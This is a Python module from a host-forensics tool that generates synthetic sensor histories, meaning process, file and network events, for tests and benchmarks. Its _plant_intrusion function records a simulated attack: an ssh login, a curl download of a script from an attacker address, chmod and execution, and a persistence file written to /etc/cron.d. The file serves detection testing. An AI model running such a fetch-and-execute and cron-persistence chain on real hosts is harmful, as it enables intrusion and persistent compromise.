"""Synthetic evidence written through the real store code: our own fake of the sensor.

Two tools, both ending in ``Writer.append`` with the store's exact schemas:

* ``StoreBuilder``: build a small, exact history by hand (who forked whom, which file was
  written when) for unit tests of the analyses. Every call adds the rows the sensor would
  emit (a fork event, an exec event, processes rows, flow rows, ...).
* ``generate``: a large, realistic host history (daemons, ssh logins, cron jobs, library
  loads, /proc reads, writes, connections, pid reuse) written in columnar chunks, plus one
  planted intrusion, for benchmarks.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

import numpy as np
import pyarrow as pa

from forensix.model.identity import entity_id, entity_ids, host_key
from forensix.store.base import Writer
from forensix.store.schema import ACCOUNTS, EVENTS, FLOWS, PROCESSES

__all__ = [
    "O_CREAT",
    "O_RDWR",
    "O_TRUNC",
    "O_WRONLY",
    "SEC",
    "UNSET",
    "GenerateResult",
    "Proc",
    "StoreBuilder",
    "generate",
]

UNSET = 4294967295  # loginuid / sessionid not set
SEC = 10**9
O_WRONLY, O_RDWR, O_CREAT, O_TRUNC = 0o1, 0o2, 0o100, 0o1000
PROT_READ, PROT_EXEC = 1, 4
# the device numbers of sockfs and pipefs on the kernel the recorder was checked against:
# the recorder names a socket's or pipe's flows by them and the inode ("socket:[N]")
SOCKFS_DEV, PIPEFS_DEV = 9, 15
_T0 = 1_790_000_000 * SEC  # 2026-09-21, a fixed epoch so generated stores are reproducible


@dataclass
class Proc:
    """One process the builder made (a handle for later calls)."""

    entity_id: int
    pid: int
    start_ts: int
    parent: Proc | None
    exe: str
    args: list[str]
    uid: int = 0
    auid: int = UNSET
    sid: int = UNSET
    tty: str | None = None
    cwd: str = "/"
    ns_pid: int = 4026531836
    ns_mnt: int = 4026531841
    cgroup: int = 1
    sha256: str | None = None  # of the running image's executable (process.hash.sha256), when known
    image_seq: int = 0


@dataclass
class StoreBuilder:
    """Hand-built history for exact tests; ``write`` appends it to a store."""

    host_id: str = "test-host"
    host_name: str = "testhost"
    boot_id: str = "boot-0001"
    boot_ts: int = _T0 - 3600 * SEC  # UTC ns of boot; ts_boot = ts - boot_ts
    dev: int = 2049  # the root file system's device number
    events: list[dict[str, Any]] = field(default_factory=list)
    processes: list[dict[str, Any]] = field(default_factory=list)
    flows: list[dict[str, Any]] = field(default_factory=list)
    accounts: list[dict[str, Any]] = field(default_factory=list)
    _inodes: dict[str, int] = field(default_factory=dict)
    _next_inode: itertools.count = field(default_factory=lambda: itertools.count(100_000))  # type: ignore[type-arg]

    # -- identities ------------------------------------------------------------
    def t(self, seconds: float) -> int:
        """UTC ns ``seconds`` after the builder's epoch."""
        return _T0 + int(seconds * SEC)

    def inode(self, path: str) -> int:
        """A stable inode number for a path (a new one after ``unlink``)."""
        if path not in self._inodes:
            self._inodes[path] = next(self._next_inode)
        return self._inodes[path]

    def _origin(self) -> dict[str, Any]:
        return {"host_id": self.host_id, "host_name": self.host_name, "boot_id": self.boot_id}

    def _ev(self, p: Proc | None, ts: int, category: str, action: str, **kw: Any) -> dict[str, Any]:
        row: dict[str, Any] = self._origin() | {
            "ts": ts, "ts_boot": ts - self.boot_ts, "cpu": 0, "seq": len(self.events),
            "event_kind": "event", "event_category": category, "event_action": action,
            "event_outcome": "success", "ret": 0,
        }
        if p is not None:
            row |= {
                "process_entity_id": p.entity_id, "process_pid": p.pid, "process_tid": p.pid,
                "process_parent_pid": p.parent.pid if p.parent else 0,
                "process_name": p.exe.rsplit("/", 1)[-1][:15], "user_id": p.uid,
                "user_effective_id": p.uid, "group_id": p.uid, "group_effective_id": p.uid,
                "user_audit_id": p.auid, "process_session_id": p.sid, "process_cgroup_id": p.cgroup,
            }
        row.update(kw)
        self.events.append(row)
        return row

    def _image(self, p: Proc, ts: int, source: str) -> None:
        self.processes.append(self._origin() | {
            "entity_id": p.entity_id, "image_seq": p.image_seq, "pid": p.pid,
            "parent_entity_id": p.parent.entity_id if p.parent else None,
            "parent_pid": p.parent.pid if p.parent else None, "start_ts": p.start_ts,
            "image_ts": ts, "executable": p.exe, "args": p.args, "working_directory": p.cwd,
            "name": p.exe.rsplit("/", 1)[-1][:15], "user_id": p.uid, "user_effective_id": p.uid,
            "group_id": p.uid, "user_audit_id": p.auid, "session_id": p.sid, "tty": p.tty,
            "cgroup_id": p.cgroup, "ns_mnt": p.ns_mnt, "ns_pid": p.ns_pid, "ns_net": 4026531840,
            "ns_user": 4026531837, "ns_uts": 4026531838, "source": source, "hash_sha256": p.sha256,
        })

    # -- processes -------------------------------------------------------------
    def spawn(self, parent: Proc | None, pid: int, t: float, exe: str, args: Iterable[str] | None = None,
              deleted: bool = False, **attrs: Any) -> Proc:
        """fork from ``parent`` then exec ``exe`` (``parent=None``: a snapshot process);
        ``deleted``: the executable had no name left (run from a deleted file, a memfd)."""
        ts = self.t(t)
        hk = host_key(self.host_id, self.boot_id)
        eid = entity_id(hk, pid, ts - self.boot_ts)
        inherit = {} if parent is None else {
            k: getattr(parent, k) for k in ("uid", "auid", "sid", "tty", "cwd", "ns_pid", "ns_mnt", "cgroup")
        }
        sha256 = attrs.pop("sha256", None)  # of the exec'd image, not of the fork's
        p = Proc(eid, pid, ts, parent, exe, list(args or [exe]), **(inherit | attrs))
        if parent is None:
            self._image(p, ts, "snapshot")
            return p
        self._ev(parent, ts, "process", "fork", target_pid=pid, target_entity_id=eid)
        self._image(p, ts, "fork")
        self.exec(p, t + 0.0001, exe, p.args, deleted=deleted, sha256=sha256)
        return p

    def exec(self, p: Proc, t: float, exe: str, args: Iterable[str] | None = None, deleted: bool = False,
             sha256: str | None = None) -> None:
        """``sha256``: the executable's content hash, as forensix.artifacts fills it in."""
        ts = self.t(t)
        p.exe, p.args, p.image_seq, p.sha256 = exe, list(args or [exe]), p.image_seq + 1, sha256
        self._ev(p, ts, "process", "exec", process_executable=exe, process_args=p.args,
                 process_working_directory=p.cwd, file_path=exe, file_inode=self.inode(exe),
                 file_device=self.dev, file_type="file", file_deleted=True if deleted else None,
                 process_hash_sha256=sha256)
        self._image(p, ts, "exec")

    def setuid(self, p: Proc, t: float, uid: int) -> None:
        p.uid = uid
        self._ev(p, self.t(t), "process", "setuid")

    def exit(self, p: Proc, t: float, code: int = 0) -> None:
        self._ev(p, self.t(t), "process", "exit", process_exit_code=code, process_exit_signal=0)

    def kill(self, p: Proc, t: float, target: Proc, sig: int = 9) -> None:
        self._ev(p, self.t(t), "process", "kill", target_pid=target.pid,
                 target_entity_id=target.entity_id, signal=sig)

    def ptrace(self, p: Proc, t: float, target: Proc, request: int = 16) -> None:
        self._ev(p, self.t(t), "process", "ptrace", target_pid=target.pid,
                 target_entity_id=target.entity_id, a0=request)

    # -- files -----------------------------------------------------------------
    def _file(self, path: str) -> dict[str, Any]:
        return {"file_path": path, "file_path_raw": path, "file_path_resolution": "kernel",
                "file_inode": self.inode(path), "file_device": self.dev, "file_type": "file"}

    def open(self, p: Proc, t: float, path: str, flags: int = 0, mode: int | None = None, **kw: Any) -> None:
        """An open; ``event_count=N``: a row standing for N re-opens the kernel counted."""
        self._ev(p, self.t(t), "file", "open", file_flags=flags, file_mode=mode, fd=3, **(self._file(path) | kw))

    def file_op(self, p: Proc, t: float, action: str, path: str, **kw: Any) -> None:
        """unlink, chmod (file_mode=), chown, truncate, utimes, setxattr, mkdir, ..."""
        self._ev(p, self.t(t), "file", action, **(self._file(path) | kw))
        if action in ("unlink", "rmdir"):
            self._inodes.pop(path, None)

    def rename(self, p: Proc, t: float, src: str, dst: str) -> None:
        ino = self.inode(src)
        self._ev(p, self.t(t), "file", "rename", **(self._file(src) | {
            "file_target_path": dst, "file_target_path_raw": dst}))
        self._inodes.pop(src, None)
        self._inodes[dst] = ino

    def flow(self, p: Proc, t0: float, t1: float, path: str, *, read: int = 0, write: int = 0,
             file_type: str = "file", inode: int | None = None, stored_once: bool = False,
             generation: int | None = None) -> None:
        """Aggregated reads/writes of ``p`` on one open file, pipe or socket.

        A pipe's or socket's flows are named as the recorder names them, ``fifo:[N]`` and
        ``socket:[N]`` on pipefs/sockfs, whatever ``path`` says (it only picks the inode when
        none is given), and carry no peer: the recorder learns a unix socket's peer at
        connect/accept and a socketpair's two ends at ``socketpair`` (see those methods).
        ``stored_once``: as the recorder keeps an edge flushed from the kernel's map, only in
        ``flows`` (``in_events`` false: the events view derives its row from it)."""
        ino = self.inode(path) if inode is None else inode
        dev = {"socket": SOCKFS_DEV, "fifo": PIPEFS_DEV}.get(file_type, self.dev)
        path = f"{file_type}:[{ino}]" if file_type in ("socket", "fifo") else path
        a, b = self.t(t0), self.t(t1)
        counts = {"read_count": 1 if read else 0, "read_bytes": read,
                  "write_count": 1 if write else 0, "write_bytes": write}
        self.flows.append(self._origin() | {
            "entity_id": p.entity_id, "pid": p.pid, "fd": 3, "file_inode": ino,
            "file_device": dev, "file_generation": generation, "file_type": file_type,
            "file_path": path if file_type in ("file", "char", "socket", "fifo") else None,
            "first_ts": a, "last_ts": b,
            **counts, "reason": "periodic" if stored_once else "close"}
            | ({"tid": p.pid, "process_name": p.exe.rsplit("/", 1)[-1][:15], "ts_boot": b - self.boot_ts,
                "in_events": False, "user_id": p.uid} if stored_once else {}))
        if stored_once:
            return
        self._ev(p, b, "flow", "flow", fd=3, file_inode=ino, file_device=dev, file_generation=generation,
                 file_type=file_type,
                 file_path=path if file_type in ("file", "char", "socket", "fifo") else None,
                 flow_first_ts=a, flow_last_ts=b, **{f"flow_{k}": v for k, v in counts.items()})

    def write_file(self, p: Proc, t: float, path: str, nbytes: int = 100, create: bool = True) -> None:
        """open(O_WRONLY|O_CREAT|O_TRUNC) then a write flow."""
        self.open(p, t, path, O_WRONLY | (O_CREAT | O_TRUNC if create else 0), 0o644)
        self.flow(p, t + 0.0001, t + 0.0002, path, write=nbytes)

    def read_file(self, p: Proc, t: float, path: str, nbytes: int = 100) -> None:
        self.open(p, t, path, 0)
        self.flow(p, t + 0.0001, t + 0.0002, path, read=nbytes)

    def mmap(self, p: Proc, t: float, path: str, prot: int = PROT_READ | PROT_EXEC) -> None:
        self._ev(p, self.t(t), "memory", "mmap", mem_prot=prot, **self._file(path))

    def pipe(self, p: Proc, t: float, inode: int) -> None:
        self._ev(p, self.t(t), "file", "pipe", file_inode=inode, file_target_inode=inode,
                 file_device=PIPEFS_DEV, file_type="fifo")

    # -- network ---------------------------------------------------------------
    def _socket(self, inode: int | None) -> dict[str, Any]:
        """The socket a connect/accept made or used: the recorder names it by its inode
        (a new one per call unless given), which its flows carry too."""
        ino = next(self._next_inode) if inode is None else inode
        return {"file_inode": ino, "file_device": SOCKFS_DEV, "file_type": "socket"}

    def connect(self, p: Proc, t: float, local: tuple[str, int], remote: tuple[str, int],
                transport: str = "tcp", action: str = "connect", inode: int | None = None) -> None:
        """``local``/``remote`` are (ip, port); ``action`` connect or accept; ``inode``: the
        socket's (the connecting one, or the one accept returned)."""
        self._ev(p, self.t(t), "network", action, network_transport=transport, network_type="ipv4",
                 source_ip=local[0], source_port=local[1], destination_ip=remote[0],
                 destination_port=remote[1], **self._socket(inode))

    def accept(self, p: Proc, t: float, local: tuple[str, int], remote: tuple[str, int],
               inode: int | None = None) -> None:
        self.connect(p, t, local, remote, action="accept", inode=inode)

    def unix_connect(self, p: Proc, t: float, path: str, action: str = "connect", inode: int | None = None,
                     peer_inode: int | None = None) -> None:
        """A unix socket's connect (or accept: ``peer_inode`` is the client's socket, as the
        recorder reads it from the accepted socket's peer)."""
        self._ev(p, self.t(t), "network", action, network_transport="unix", network_type="unix",
                 unix_path=path, unix_peer_inode=peer_inode, **self._socket(inode))

    def socketpair(self, p: Proc, t: float, a: int, b: int) -> None:
        """A connected unix socket pair: the event names both ends' inodes."""
        self._ev(p, self.t(t), "network", "socketpair", file_target_inode=b, **self._socket(a))

    # -- output ----------------------------------------------------------------
    def users(self, t: float, users: dict[int, str], recorded: float | None = None) -> None:
        """A reading of the host's /etc/passwd valid from ``t`` (what sensor.accounts stores):
        uid -> name; a name of None says the uid is gone since the last reading."""
        for uid, name in users.items():
            self.accounts.append(self._origin() | {
                "valid_from": self.t(t), "recorded_ts": self.t(t if recorded is None else recorded),
                "kind": "user", "uid": uid, "gid": uid, "name": name,
                "home": f"/home/{name}" if name else None, "shell": "/bin/bash" if name else None,
                "source": "/etc/passwd",
            })

    def tables(self) -> dict[str, pa.Table]:
        out = {
            "events": pa.Table.from_pylist(self.events, schema=EVENTS),
            "processes": pa.Table.from_pylist(self.processes, schema=PROCESSES),
            "flows": pa.Table.from_pylist(self.flows, schema=FLOWS),
        }
        if self.accounts:
            out["accounts"] = pa.Table.from_pylist(self.accounts, schema=ACCOUNTS)
        return out

    def write(self, store: Writer) -> None:
        for name, table in self.tables().items():
            store.append(name, table)
        store.flush()


# ------------------------------------------------------------------------------------
# Large realistic histories for benchmarks
# ------------------------------------------------------------------------------------

_LIBS = [f"/usr/lib/x86_64-linux-gnu/lib{n}.so.{v}" for n in
         ("c", "m", "pthread", "ssl", "crypto", "z", "selinux", "pcre2-8", "tinfo", "gcc_s", "stdc++",
          "systemd", "cap", "acl", "attr", "lzma", "zstd", "bz2", "ffi", "python3.11", "curl",
          "nghttp2", "idn2", "gnutls", "readline") for v in (1, 6)]
# read by every kind of program; not /etc/shadow (only the authentication tools read it on a
# real host: in this list, every generated process read it and the fleet raised 77,639
# "shadow password file read by an unexpected process" findings). Fourteen of them:
# bench/fleet_gen.py's numpy path picks one by a modulus that must divide 1,400,000.
_ETC = ["/etc/ld.so.cache", "/etc/passwd", "/etc/group", "/etc/nsswitch.conf", "/etc/hosts",
        "/etc/resolv.conf", "/etc/localtime", "/etc/locale.alias", "/etc/services", "/etc/profile",
        "/etc/bash.bashrc", "/etc/ssl/openssl.cnf", "/etc/host.conf", "/etc/gai.conf"]
_BINS = ["/usr/bin/bash", "/usr/bin/ls", "/usr/bin/cat", "/usr/bin/grep", "/usr/bin/sed", "/usr/bin/awk",
         "/usr/bin/python3.11", "/usr/bin/curl", "/usr/bin/find", "/usr/bin/ps", "/usr/bin/tar",
         "/usr/bin/gzip", "/usr/sbin/logrotate", "/usr/bin/git", "/usr/bin/make", "/usr/bin/gcc",
         "/usr/bin/cp", "/usr/bin/mv", "/usr/bin/rm", "/usr/bin/date", "/usr/bin/sleep", "/usr/bin/id"]


@dataclass
class GenerateResult:
    events: int
    processes: int
    flows: int
    target_file: str  # the planted intrusion's cron file
    attacker: tuple[str, int]


def _paths(rng: np.random.Generator) -> list[str]:
    data = [f"/var/lib/app/data/{i:05d}.db" for i in range(4000)]
    homes = [f"/home/u{u}/src/f{i}.c" for u in range(20) for i in range(300)]
    logs = [f"/var/log/app/{n}.log" for n in ("access", "error", "audit", "jobs", "sync")]
    tmp = [f"/tmp/tmp.{i:06x}" for i in range(20000)]
    procs = [f"/proc/{i}/{k}" for i in range(1, 2000) for k in ("stat", "status", "cmdline")]
    dev = ["/dev/null", "/dev/urandom", "/dev/tty", "/dev/pts/0"]
    return _LIBS + _ETC + data + homes + logs + tmp + procs + dev + ["/sys/fs/cgroup/cpu.max"]


def generate(store: Writer, events: int = 1_000_000, processes: int | None = None, *,
             seed: int = 1, chunk: int = 500_000) -> GenerateResult:
    """Write a realistic history of about ``events`` events and ``processes`` processes."""
    rng = np.random.default_rng(seed)
    nproc = processes or max(200, events // 100)
    b = StoreBuilder()
    hk = host_key(b.host_id, b.boot_id)
    duration = 6 * 3600 * SEC
    # -- the process population: daemons, session shells, then short-lived commands --
    init = b.spawn(None, 1, 0, "/usr/lib/systemd/systemd", ["/sbin/init"])
    sshd = b.spawn(init, 500, 0.5, "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D [listener]"])
    cron = b.spawn(init, 510, 0.6, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"])
    daemons = [b.spawn(init, 520 + i, 1 + i, exe) for i, exe in enumerate(
        ["/usr/sbin/nginx", "/usr/bin/dockerd", "/usr/sbin/rsyslogd", "/usr/lib/postgresql/bin/postgres"])]
    shells = []
    for i in range(20):
        conn = b.spawn(sshd, 800 + 3 * i, 60 + i * 900, "/usr/sbin/sshd", [f"sshd: u{i} [priv]"])
        b.accept(sshd, 60 + i * 900 - 0.01, ("10.0.0.5", 22), (f"198.51.100.{i + 1}", 40000 + i))
        sh = b.spawn(conn, 801 + 3 * i, 61 + i * 900, "/usr/bin/bash", ["-bash"], uid=1000 + i,
                     auid=1000 + i, sid=i + 1, tty=f"pts/{i}", cwd=f"/home/u{i}")
        shells.append(sh)
    parents_fixed = [init, cron, *daemons, *shells]
    b.write(store)  # the fixed skeleton
    n_fixed = len(b.processes)
    planted = _plant_intrusion(store, b, sshd)

    n = nproc - len(b.processes) // 2
    paths = _paths(rng)
    inode_of = np.arange(len(paths), dtype=np.uint64) + 10_000_000
    starts = np.sort(rng.integers(120 * SEC, duration, n)) + _T0
    pids = (np.arange(n) % 30000 + 2000).astype(np.uint32)  # pid reuse about every 30000
    eids = entity_ids(hk, pids, starts - b.boot_ts)
    par_idx = rng.integers(0, len(parents_fixed), n)
    par_eid = np.array([p.entity_id for p in parents_fixed], dtype=np.uint64)[par_idx]
    par_pid = np.array([p.pid for p in parents_fixed], dtype=np.uint32)[par_idx]
    uids = np.array([p.uid for p in parents_fixed], dtype=np.uint32)[par_idx]
    auids = np.array([p.auid for p in parents_fixed], dtype=np.uint32)[par_idx]
    sids = np.array([p.sid for p in parents_fixed], dtype=np.uint32)[par_idx]
    exes = np.array(_BINS, dtype=object)[rng.integers(0, len(_BINS), n)]
    lifetimes = rng.exponential(2 * SEC, n).astype(np.int64) + 1_000_000
    # a third are children of a recent command (pipelines, make, shells in scripts), so
    # trees are several levels deep; they inherit their parent's user and session
    nested = np.flatnonzero(rng.random(n) < 0.3)
    back = rng.integers(1, 40, len(nested))
    for i, d in zip(nested.tolist(), back.tolist()):
        j = i - d
        if j < 0:
            continue
        par_eid[i], par_pid[i] = eids[j], pids[j]
        uids[i], auids[i], sids[i] = uids[j], auids[j], sids[j]
        lifetimes[j] = max(int(lifetimes[j]), int(starts[i] - starts[j]) + 1_000_000)
    origin = {"host_id": b.host_id, "host_name": b.host_name, "boot_id": b.boot_id}

    def const(v: Any, k: int, t: pa.DataType) -> pa.Array:
        return pa.array(np.full(k, v), type=t) if not isinstance(v, str) else pa.array([v] * k, type=t)

    proc_rows = {
        "entity_id": np.concatenate([eids, eids]), "image_seq": np.repeat(np.array([0, 1], np.uint32), n),
        "pid": np.concatenate([pids, pids]), "parent_entity_id": np.concatenate([par_eid, par_eid]),
        "parent_pid": np.concatenate([par_pid, par_pid]), "start_ts": np.concatenate([starts, starts]),
        "image_ts": np.concatenate([starts, starts + 100_000]),
        "executable": np.concatenate([np.array(["/usr/bin/bash"] * n, dtype=object), exes]),
        "user_id": np.concatenate([uids, uids]), "user_effective_id": np.concatenate([uids, uids]),
        "user_audit_id": np.concatenate([auids, auids]), "session_id": np.concatenate([sids, sids]),
    }
    ptab = pa.table({k: pa.array(v, type=PROCESSES.field(k).type) for k, v in proc_rows.items()})
    for k, v in origin.items():
        ptab = ptab.append_column(k, const(v, ptab.num_rows, pa.string()))
    ptab = ptab.append_column("source", const("fork", ptab.num_rows, pa.string()))
    ptab = ptab.append_column("args", pa.array([[e] for e in np.concatenate(
        [np.array(["bash"] * n, dtype=object), exes])], type=pa.list_(pa.string())))
    store.append("processes", _conform(ptab, PROCESSES))

    # lifecycle events: fork (by parent), exec, exit
    life = {
        "ts": np.concatenate([starts, starts + 100_000, starts + lifetimes]),
        "event_action": np.repeat(np.array(["fork", "exec", "exit"], dtype=object), n),
        "process_entity_id": np.concatenate([par_eid, eids, eids]),
        "process_pid": np.concatenate([par_pid, pids, pids]),
        "target_entity_id": np.concatenate([eids, np.zeros(2 * n, np.uint64)]),
        "target_pid": np.concatenate([pids, np.zeros(2 * n, np.uint32)]),
        "process_executable": np.concatenate([np.array([None] * n, dtype=object), exes, exes]),
        "file_path": np.concatenate([np.array([None] * n, dtype=object), exes,
                                     np.array([None] * n, dtype=object)]),
        "user_id": np.concatenate([uids, uids, uids]),
        "user_audit_id": np.concatenate([auids, auids, auids]),
        "process_session_id": np.concatenate([sids, sids, sids]),
    }
    etab = pa.table({k: pa.array(v, type=EVENTS.field(k).type) for k, v in life.items()})
    etab = etab.append_column("event_category", const("process", etab.num_rows, pa.string()))
    etab = etab.append_column("process_exit_code", pa.array(
        np.concatenate([np.zeros(2 * n, np.int32), (rng.random(n) < 0.05).astype(np.int32)]), pa.int32()))
    total = etab.num_rows
    store.append("events", _finish_events(etab, origin, b.boot_ts))

    # activity: opens, flows, mmaps, network and file changes, in chunks
    remaining = max(0, events - total - len(b.events))
    nflows = 0
    while remaining > 0:
        k = min(chunk, remaining)
        ev, fl = _activity(rng, k, eids, pids, starts, lifetimes, uids, auids, sids, paths, inode_of, b.dev)
        store.append("events", _finish_events(ev, origin, b.boot_ts))
        store.append("flows", _finish_flows(fl, origin))
        nflows += fl.num_rows
        total += k
        remaining -= k
    store.flush()
    return GenerateResult(total + len(b.events), n + n_fixed // 2 + 12, nflows + len(b.flows),
                          planted, ("203.0.113.66", 8000))


def _activity(rng: np.random.Generator, k: int, eids: np.ndarray, pids: np.ndarray, starts: np.ndarray,
              lifetimes: np.ndarray, uids: np.ndarray, auids: np.ndarray, sids: np.ndarray,
              paths: list[str], inode_of: np.ndarray, dev: int) -> tuple[pa.Table, pa.Table]:
    who = rng.integers(0, len(eids), k)
    ts = starts[who] + 200_000 + (rng.random(k) * lifetimes[who]).astype(np.int64)
    # skewed object choice: libraries and /etc are hot, data files warm, /tmp and /proc cold
    pidx = np.minimum((rng.pareto(1.2, k) * 40).astype(np.int64), len(paths) - 1)
    kind = rng.choice(np.array(["open", "flow", "mmap", "connect", "chmod", "rename", "unlink",
                                "setuid", "kill"], dtype=object), k,
                      p=[0.43, 0.33, 0.17, 0.03, 0.01, 0.01, 0.015, 0.0025, 0.0025])
    is_file = np.isin(kind, ["open", "flow", "mmap", "chmod", "rename", "unlink"])
    writes = rng.random(k) < 0.15
    # writes, renames and deletes land on data, home, log and /tmp files, never on libraries
    changes = writes | np.isin(kind, ["chmod", "rename", "unlink"])
    first_w = len(_LIBS) + len(_ETC)
    pidx = np.where(changes, first_w + pidx % 30005, pidx)
    # an application's logs are written, never renamed or deleted by any program: that is the
    # log rotation's job (and the logs-tampered rule's finding): a rename or unlink that
    # lands on a log takes the /tmp file after them
    logs = first_w + 10_000  # data (4000) and homes (6000) come first in _paths
    pidx = np.where(np.isin(kind, ["rename", "unlink"]) & (pidx >= logs) & (pidx < logs + 5), pidx + 5, pidx)
    path_arr = np.array(paths, dtype=object)[pidx]
    flags = np.where(writes, O_WRONLY | O_CREAT, 0).astype(np.uint32)
    cat = np.select([kind == "open", kind == "flow", kind == "mmap", kind == "connect",
                     np.isin(kind, ["setuid", "kill"])], ["file", "flow", "memory", "network", "process"],
                    "file").astype(object)
    ips = np.array([f"93.184.216.{i}" for i in range(32)] + ["10.0.0.7"], dtype=object)
    net = kind == "connect"
    nbytes = rng.integers(1, 1 << 16, k).astype(np.uint64)
    none = np.array(None, dtype=object)
    cols: dict[str, Any] = {
        "ts": ts, "event_category": cat, "event_action": kind,
        "process_entity_id": eids[who], "process_pid": pids[who], "user_id": uids[who],
        "user_audit_id": auids[who], "process_session_id": sids[who],
        "file_path": np.where(is_file, path_arr, none),
        "file_inode": np.where(is_file, inode_of[pidx], 0).astype(np.uint64),
        "file_device": np.where(is_file, dev, 0).astype(np.uint64),
        "file_flags": np.where(kind == "open", flags, 0).astype(np.uint32),
        "file_target_path": np.where(kind == "rename", path_arr + ".1", none),
        "mem_prot": np.where(kind == "mmap", 5, 0).astype(np.uint32),
        "network_transport": np.where(net, "tcp", none),
        "destination_ip": np.where(net, ips[rng.integers(0, len(ips), k)], none),
        "destination_port": np.where(net, 443, 0).astype(np.uint16),
        "source_ip": np.where(net, "10.0.0.5", none),
        "source_port": np.where(net, rng.integers(32768, 60999, k), 0).astype(np.uint16),
        "flow_read_bytes": np.where((kind == "flow") & ~writes, nbytes, 0).astype(np.uint64),
        "flow_write_bytes": np.where((kind == "flow") & writes, nbytes, 0).astype(np.uint64),
        "flow_first_ts": np.where(kind == "flow", ts - 1000, 0), "flow_last_ts": ts,
        "target_pid": np.where(kind == "kill", pids[who[::-1]], 0).astype(np.uint32),
        "target_entity_id": np.where(kind == "kill", eids[who[::-1]], 0).astype(np.uint64),
    }
    ev = pa.table({c: pa.array(v, type=EVENTS.field(c).type) for c, v in cols.items()})
    f = kind == "flow"
    fl = pa.table({
        "entity_id": pa.array(eids[who][f]), "pid": pa.array(pids[who][f]),
        "file_inode": pa.array(inode_of[pidx][f]), "file_device": pa.array(np.full(f.sum(), dev, np.uint64)),
        "file_path": pa.array(path_arr[f], pa.string()), "first_ts": pa.array(ts[f] - 1000),
        "last_ts": pa.array(ts[f]), "read_bytes": pa.array(cols["flow_read_bytes"][f]),
        "write_bytes": pa.array(cols["flow_write_bytes"][f]),
        "read_count": pa.array((cols["flow_read_bytes"][f] > 0).astype(np.uint64)),
        "write_count": pa.array((cols["flow_write_bytes"][f] > 0).astype(np.uint64)),
    })
    return ev, fl


def _conform(t: pa.Table, schema: pa.Schema) -> pa.Table:
    cols = [t.column(f.name).cast(f.type) if f.name in t.column_names else pa.nulls(t.num_rows, f.type)
            for f in schema]
    return pa.Table.from_arrays(cols, schema=schema)


def _finish_events(t: pa.Table, origin: dict[str, str], boot_ts: int) -> pa.Table:
    n = t.num_rows
    for k, v in origin.items():
        t = t.append_column(k, pa.array([v] * n, pa.string()))
    t = t.append_column("ts_boot", pa.array(t.column("ts").to_numpy() - boot_ts))
    t = t.append_column("event_outcome", pa.array(["success"] * n, pa.string()))
    return _conform(t, EVENTS)


def _finish_flows(t: pa.Table, origin: dict[str, str]) -> pa.Table:
    n = t.num_rows
    for k, v in origin.items():
        t = t.append_column(k, pa.array([v] * n, pa.string()))
    t = t.append_column("file_type", pa.array(["file"] * n, pa.string()))
    t = t.append_column("reason", pa.array(["close"] * n, pa.string()))
    return _conform(t, FLOWS)


def _plant_intrusion(store: Writer, base: StoreBuilder, sshd: Proc) -> str:
    """An ssh login that downloads a script, persists through cron and exfiltrates."""
    b = StoreBuilder(host_id=base.host_id, host_name=base.host_name, boot_id=base.boot_id,
                     boot_ts=base.boot_ts)
    b._next_inode = itertools.count(900_000)
    t = 3 * 3600.0
    conn = b.spawn(sshd, 31000, t, "/usr/sbin/sshd", ["sshd: mallory [priv]"])
    b.accept(sshd, t - 0.01, ("10.0.0.5", 22), ("203.0.113.66", 51515))
    sh = b.spawn(conn, 31001, t + 1, "/usr/bin/bash", ["-bash"], uid=1001, auid=1001, sid=777, tty="pts/9")
    for lib in ("/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libc.so.6"):
        b.mmap(sh, t + 1.01, lib)
    curl = b.spawn(sh, 31002, t + 10, "/usr/bin/curl", ["curl", "-o", "/tmp/x.sh", "http://203.0.113.66:8000/x.sh"])
    b.read_file(curl, t + 10.1, "/etc/resolv.conf")
    b.connect(curl, t + 10.2, ("10.0.0.5", 40404), ("203.0.113.66", 8000))
    b.write_file(curl, t + 10.3, "/tmp/x.sh", 900)
    b.exit(curl, t + 10.5)
    chmod = b.spawn(sh, 31003, t + 11, "/usr/bin/chmod", ["chmod", "+x", "/tmp/x.sh"])
    b.file_op(chmod, t + 11.1, "chmod", "/tmp/x.sh", file_mode=0o755)
    script = b.spawn(sh, 31004, t + 12, "/tmp/x.sh", ["/tmp/x.sh"])
    b.read_file(script, t + 12.01, "/tmp/x.sh")
    b.write_file(script, t + 12.2, "/etc/cron.d/evil", 60)
    b.write(store)
    return "/etc/cron.d/evil"
